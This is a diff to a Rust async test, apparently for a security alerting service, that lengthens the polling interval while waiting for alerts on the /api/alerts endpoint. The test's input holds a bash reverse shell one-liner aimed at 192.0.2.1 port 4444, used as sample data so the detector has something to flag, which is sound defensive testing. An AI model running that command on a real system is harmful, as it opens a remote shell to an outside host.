@@ -273,13 +273,13 @@ async fn detections_raise_one_alert_and_add_to_it() {
     let token = world.first_token().await;
     let command = "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'";
     let until = async |wanted: &str, check: &dyn Fn(&[Json]) -> bool| {
-        for _ in 0..200 {
+        for _ in 0..60 {
             let list = world.get("/api/alerts?$expand=evidence", &token).await.body;
             let alerts = list["value"].as_array().expect("a list").clone();
             if check(&alerts) {
                 return alerts;
             }
-            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+            tokio::time::sleep(std::time::Duration::from_millis(500)).await;
         }
         panic!("waited for {wanted}");
     };
